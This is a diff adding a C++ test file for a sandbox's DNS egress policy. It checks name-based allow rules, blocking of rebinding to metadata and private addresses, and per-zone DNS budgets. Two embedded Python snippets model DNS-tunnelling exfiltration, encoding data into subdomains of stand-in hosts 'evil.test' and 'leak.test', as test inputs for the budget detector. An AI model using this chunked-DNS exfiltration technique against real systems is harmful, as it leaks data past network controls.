@@ -1,0 +1,163 @@
+// `stockade run` and names: those of the policy open their addresses, nothing else does, and what is said in
+// names to a zone stays within its budget.
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+#include <signal.h>
+
+#include <set>
+
+#include "absl/strings/match.h"
+#include "absl/strings/str_cat.h"
+#include "tests/dns/world.h"
+#include "tests/tools/product.h"
+
+namespace stockade::tests {
+namespace {
+
+using ::testing::HasSubstr;
+using ::testing::IsEmpty;
+using ::testing::Not;
+
+constexpr char kConnect[] =
+    "import socket, sys\n"
+    "def go(host, port):\n"
+    "    try:\n"
+    "        with socket.create_connection((host, port), timeout=10) as s: return s.recv(9).decode()\n"
+    "    except PermissionError: return 'EPERM'\n"
+    "    except socket.gaierror: return 'no name'\n"
+    "    except OSError as e: return type(e).__name__\n"
+    "for word in sys.argv[1:]:\n"
+    "    host, port = word.rsplit(':', 1)\n"
+    "    print(word, go(host, int(port)))\n";
+
+class DnsRun : public ::testing::Test {
+  protected:
+    static void SetUpTestSuite() {
+        product_ = new Product;
+        world_ = new World;
+    }
+    static void TearDownTestSuite() {
+        delete product_;
+        delete world_;
+        product_ = nullptr;
+        world_ = nullptr;
+    }
+    void SetUp() override {
+        ASSERT_TRUE(world_->status().ok()) << world_->status();
+        (void)world_->TakeNames();
+    }
+    static std::string Policy(const std::string& name, const std::string& spec) {
+        return product_->Put(name + ".yaml",
+                             absl::StrCat("apiVersion: stockade.dev/v1\nkind: SandboxPolicy\nmetadata: {name: ", name,
+                                          "}\nspec:\n  violation: deny\n  exec: {allow: [/usr/**], libraries: [/usr/**]}\n"
+                                          "  files: {read: [/**], write: [/tmp/**]}\n", spec));
+    }
+    static Ran Connect(const std::string& policy, const std::vector<std::string>& where, const std::vector<std::string>& flags = {}) {
+        std::vector<std::string> command = {"python3", "-c", kConnect};
+        command.insert(command.end(), where.begin(), where.end());
+        return product_->Run(policy, command, flags);
+    }
+    static inline Product* product_;
+    static inline World* world_;
+};
+
+TEST_F(DnsRun, ANameOfThePolicyOpensItsAddressAndNothingElse) {
+    const std::string policy = Policy("names", absl::StrCat(
+        "  network: {allow: [{name: \"*.egress.test\", ports: [", World::kPort, "]}]}\n  dns: {resolvers: [", World::kResolver, "]}\n"));
+    world_->Answer("ok.egress.test", World::kOutside);
+    world_->Answer("also.other.test", World::kOutside);
+    const std::string port = absl::StrCat(":", World::kPort);
+    // The address before its name, the name, the address after it, another port of it, a name that no rule has.
+    const Ran ran = Connect(policy, {World::kOutside + port, "ok.egress.test" + port, World::kOutside + port,
+                                     absl::StrCat("ok.egress.test:", World::kOtherPort), "also.other.test" + port});
+    EXPECT_EQ(ran.status, 0) << ran.Text();
+    EXPECT_EQ(ran.out, absl::StrCat(World::kOutside, port, " EPERM\nok.egress.test", port, " hello\n", World::kOutside, port,
+                                    " hello\nok.egress.test:", World::kOtherPort, " EPERM\nalso.other.test", port, " no name\n"))
+        << ran.Text();
+    EXPECT_THAT(world_->TakeNames(), Not(testing::Contains("also.other.test")));
+    EXPECT_THAT(ran.err, HasSubstr("the policy does not allow resolving also.other.test"));
+    EXPECT_THAT(ran.err, HasSubstr("dns.allow: [also.other.test]"));
+}
+
+TEST_F(DnsRun, ANameThatLeadsBehindTheWorldOpensNothing) {
+    const std::string policy = Policy("rebind", absl::StrCat(
+        "  network: {allow: [{name: \"*.egress.test\"}]}\n  dns: {resolvers: [", World::kResolver, "]}\n"));
+    world_->Answer("metadata.egress.test", "169.254.169.254");
+    world_->Answer("inner.egress.test", "10.1.2.3");
+    const Ran ran = Connect(policy, {"metadata.egress.test:80", "inner.egress.test:80"});
+    EXPECT_EQ(ran.out, "metadata.egress.test:80 EPERM\ninner.egress.test:80 EPERM\n") << ran.Text();
+}
+
+TEST_F(DnsRun, AZoneLearnsItsBudgetAndTheFindingNamesIt) {
+    const std::string policy = Policy("open", absl::StrCat("  dns: {mode: open, resolvers: [", World::kResolver, "]}\n  record: {dns: all}\n"));
+    const std::string code =
+        "import os, socket\n"
+        "data = os.urandom(2000).hex()\n"
+        "for i in range(0, len(data), 40):\n"
+        "    try: socket.getaddrinfo(data[i:i+40] + '.evil.test', 80)\n"
+        "    except OSError: pass\n";
+    const Ran ran = product_->Run(policy, {"python3", "-c", code});
+    EXPECT_EQ(ran.status, 0) << ran.Text();
+    std::set<std::string> learnt;
+    for (const std::string& name : world_->TakeNames()) {
+        if (absl::EndsWith(name, ".evil.test")) learnt.insert(name.substr(0, 40));
+    }
+    EXPECT_GE(learnt.size(), 3u) << "the plumbing works";
+    EXPECT_LE(learnt.size() * 20, 256u) << "bytes of the file";
+    bool found = false;
+    for (const Json& event : ran.events) {
+        found |= At(event, "finding.rule") == "dns-budget" && At(event, "finding.severity") == "high" &&
+                 absl::StrContains(At(event, "finding.title"), "evil.test");
+    }
+    EXPECT_TRUE(found) << ran.Text();
+    EXPECT_THAT(ran.err, HasSubstr("dns.zone_budget"));
+    // The same under observe: all of it arrives.
+    const std::string observe = Policy("watch", absl::StrCat("  dns: {mode: observe, resolvers: [", World::kResolver, "]}\n"));
+    EXPECT_EQ(product_->Run(observe, {"python3", "-c", code}).status, 0);
+    learnt.clear();
+    for (const std::string& name : world_->TakeNames()) {
+        if (absl::EndsWith(name, ".evil.test")) learnt.insert(name.substr(0, 40));
+    }
+    EXPECT_EQ(learnt.size(), 100u);
+}
+
+TEST_F(DnsRun, TheBudgetIsTheSessions) {
+    const std::string policy = Policy("session", absl::StrCat("  dns: {mode: open, resolvers: [", World::kResolver, "]}\n"));
+    const std::string code =
+        "import os, socket\n"
+        "for i in range(20):\n"
+        "    try: socket.getaddrinfo(os.urandom(20).hex() + '.leak.test', 80)\n"
+        "    except OSError: pass\n";
+    std::set<std::string> learnt;
+    for (int i = 0; i < 5; ++i) {
+        if (i == 3) {  // a next agent knows the session
+            const pid_t before = product_->AgentPid();
+            product_->StopAgent(SIGKILL);
+            EXPECT_NE(before, 0);
+        }
+        EXPECT_EQ(product_->Run(policy, {"python3", "-c", code}, {"--session", "one"}).status, 0);
+        for (const std::string& name : world_->TakeNames()) learnt.insert(name.substr(0, 40));
+    }
+    EXPECT_GE(learnt.size(), 3u);
+    EXPECT_LE(learnt.size() * 20, 256u);
+}
+
+TEST_F(DnsRun, OrdinaryNamesStayWellWithinIt) {
+    const std::string policy = Policy("ordinary", absl::StrCat("  dns: {mode: open, resolvers: [", World::kResolver, "]}\n"));
+    std::vector<std::string> names;
+    for (const char* sub : {"www", "api", "static", "cdn", "files", "login", "docs", "img"}) names.push_back(absl::StrCat(sub, ".shop.test:1"));
+    for (const std::string& name : names) world_->Answer(name.substr(0, name.find(':')), World::kOutside);
+    for (int i = 0; i < 3; ++i) {
+        const Ran ran = Connect(policy, names, {"--session", "ordinary"});
+        EXPECT_THAT(ran.out, Not(HasSubstr("no name"))) << i << ran.Text();
+    }
+}
+
+TEST_F(DnsRun, WithoutDnsThereIsNone) {
+    const Ran ran = Connect("networkless", {"ok.egress.test:80"});
+    EXPECT_EQ(ran.out, "ok.egress.test:80 no name\n") << ran.Text();
+    EXPECT_THAT(world_->TakeNames(), IsEmpty());
+}
+
+}  // namespace
+}  // namespace stockade::tests
